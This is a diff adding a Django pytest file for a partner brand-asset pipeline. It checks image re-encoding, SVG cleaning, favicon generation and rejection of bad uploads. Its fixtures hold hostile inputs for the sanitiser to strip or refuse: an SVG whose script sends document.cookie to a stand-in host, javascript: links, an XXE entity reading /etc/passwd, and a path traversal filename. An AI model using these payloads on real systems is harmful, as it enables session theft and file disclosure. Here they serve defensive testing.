@@ -1,0 +1,177 @@
+"""Brand assets from the console: raster re-encoded and resized, SVG cleaned, favicon sizes;
+stored under the partner's prefix and served from its own host at /brand/<name>."""
+
+import io
+from typing import Any
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client
+from PIL import Image
+
+from accounts.models import User
+from tenants.brand import BrandAssetError, brand_asset_store
+from tenants.models import ConfigVersion, Partner
+from tenants.services import partner_provision
+from tests.staff_login import client_staff_login
+
+pytestmark = pytest.mark.django_db
+
+HOST = "marke.localhost"
+
+
+@pytest.fixture
+def staff(client: Client) -> Client:
+    User.objects.create_superuser("onboarding", "onboarding@example.com", "S3cure-Passw0rd!")
+    client_staff_login(client, host="localhost", username="onboarding", password="S3cure-Passw0rd!")
+    return client
+
+
+@pytest.fixture
+def partner() -> Partner:
+    return partner_provision(subdomain="marke", name="Marke GmbH", kind="wallbox")
+
+
+def jpeg_with_exif(size: tuple[int, int]) -> bytes:
+    image = Image.new("RGB", size, "#1d4ed8")
+    exif = Image.Exif()
+    exif[0x010F] = "Kamera GmbH"  # Make
+    out = io.BytesIO()
+    image.save(out, "JPEG", exif=exif.tobytes())
+    return out.getvalue()
+
+
+HOSTILE_SVG = b"""<?xml version="1.0"?>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="40" onload="alert(1)">
+  <script>fetch('https://evil.example/'+document.cookie)</script>
+  <style>rect{fill:url(https://evil.example/x)}</style>
+  <foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
+  <rect width="40" height="40" fill="#1d4ed8" onclick="x()"/>
+  <a xlink:href="javascript:alert(1)"><text x="50" y="25">Klick</text></a>
+  <text x="50" y="25" xlink:href="javascript:alert(2)">Marke</text>
+  <image href="https://evil.example/track.png"/>
+  <use href="#r"/>
+</svg>"""
+
+
+def test_a_logo_is_re_encoded_resized_stored_and_served(staff: Client, partner: Partner) -> None:
+    upload = SimpleUploadedFile("logo.jpg", jpeg_with_exif((3000, 1000)), content_type="image/jpeg")
+
+    response = staff.post(
+        f"/admin/tenants/partner/{partner.pk}/brand/", {"logo": upload}, HTTP_HOST="localhost"
+    )
+
+    assert response.status_code == 302
+    draft = ConfigVersion.objects.get(partner=partner, published_at__isnull=True)
+    url = draft.config["logo"]
+    assert url.startswith("/brand/logo-") and url.endswith(".png")
+    partner.refresh_from_db()
+    assert partner.config["logo"] is None  # the live site changes only when published
+    served = Client().get(url, HTTP_HOST=HOST)
+    assert served.status_code == 200 and served["Content-Type"] == "image/png"
+    assert "immutable" in served["Cache-Control"]
+    image = Image.open(io.BytesIO(served.content))
+    assert image.format == "PNG" and image.size == (600, 200)
+    assert not image.getexif() and "exif" not in image.info
+    # another partner's host does not serve it
+    assert Client().get(url, HTTP_HOST="autohaus.localhost").status_code == 404
+
+
+def test_an_svg_is_cleaned(partner: Partner) -> None:
+    asset = brand_asset_store(partner=partner, kind="logo", data=HOSTILE_SVG)
+
+    served = Client().get(asset.url, HTTP_HOST=HOST)
+    svg = served.content.decode()
+
+    assert served["Content-Type"] == "image/svg+xml"
+    assert "sandbox" in served["Content-Security-Policy"]
+    for bad in (
+        "script",
+        "onload",
+        "onclick",
+        "evil.example",
+        "foreignObject",
+        "javascript",
+        "<style",
+        "<image",
+    ):
+        assert bad not in svg
+    assert "<rect" in svg and "Marke" in svg and 'href="#r"' in svg and "Klick" not in svg
+
+
+def test_a_favicon_gets_its_sizes(partner: Partner) -> None:
+    png = io.BytesIO()
+    Image.new("RGBA", (700, 500), "#047857").save(png, "PNG")
+
+    asset = brand_asset_store(partner=partner, kind="favicon", data=png.getvalue())
+
+    for size in (32, 180, 192, 512):
+        served = Client().get(asset.extra[str(size)], HTTP_HOST=HOST)
+        assert Image.open(io.BytesIO(served.content)).size == (size, size)
+    ico = Client().get(asset.extra["ico"], HTTP_HOST=HOST)
+    assert ico["Content-Type"] == "image/x-icon"
+    assert set(Image.open(io.BytesIO(ico.content)).info["sizes"]) == {(16, 16), (32, 32), (48, 48)}
+
+
+def test_a_header_image_becomes_webp(partner: Partner) -> None:
+    asset = brand_asset_store(partner=partner, kind="header_image", data=jpeg_with_exif((4000, 1000)))
+
+    image = Image.open(io.BytesIO(Client().get(asset.url, HTTP_HOST=HOST).content))
+    assert image.format == "WEBP" and image.size == (2400, 600)
+
+
+@pytest.mark.parametrize(
+    ("data", "message"),
+    [
+        (b"MZ\x90\x00 not an image", "Erlaubt sind PNG, JPEG, WebP und SVG."),
+        (b"GIF89a" + b"\x00" * 20, "Erlaubt sind PNG, JPEG, WebP und SVG."),
+        (b"<svg><script>", "Die SVG-Datei ist kein gültiges SVG."),
+        (
+            b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
+            "Die SVG-Datei ist kein gültiges SVG.",
+        ),
+        (b"\x89PNG" + b"\x00" * (2 * 1024 * 1024), "Die Datei ist zu groß (höchstens 2 MB)."),
+    ],
+)
+def test_bad_uploads_are_refused(partner: Partner, data: bytes, message: str) -> None:
+    with pytest.raises(BrandAssetError, match=message.replace("(", r"\(").replace(")", r"\)")):
+        brand_asset_store(partner=partner, kind="logo", data=data)
+
+
+def test_a_refused_upload_says_why_in_the_console(staff: Client, partner: Partner) -> None:
+    upload = SimpleUploadedFile("logo.png", b"not an image", content_type="image/png")
+
+    response = staff.post(
+        f"/admin/tenants/partner/{partner.pk}/brand/", {"logo": upload}, HTTP_HOST="localhost", follow=True
+    )
+
+    assert "Logo: Erlaubt sind PNG, JPEG, WebP und SVG." in response.content.decode()
+    assert not ConfigVersion.objects.filter(partner=partner, published_at__isnull=True).exists()
+
+
+def test_unknown_names_are_404(partner: Partner) -> Any:
+    for name in ("../p_autohaus/brand/x.png", "logo.png", "logo-0123456789ab.exe"):
+        assert Client().get(f"/brand/{name}", HTTP_HOST=HOST).status_code == 404
+
+
+def test_mails_link_the_uploaded_logo_as_a_hosted_png(partner: Partner) -> None:
+    from django.core import mail
+
+    from accounts.mails import mail_send
+    from tenants.services import partner_update
+
+    asset = brand_asset_store(partner=partner, kind="logo", data=jpeg_with_exif((900, 300)))
+    partner_update(partner=partner, config={**partner.config, "logo": asset.url})
+    mail.outbox.clear()
+
+    mail_send(
+        schema_name=partner.schema_name,
+        to="anna@example.org",
+        template="login_code",
+        subject="Ihr Code",
+        context={"code": "123456"},
+    )
+
+    html = str(mail.outbox[0].alternatives[0][0])  # type: ignore[union-attr]
+    assert f'src="http://marke.localhost{asset.url}"' in html
+    assert asset.url.endswith(".png")
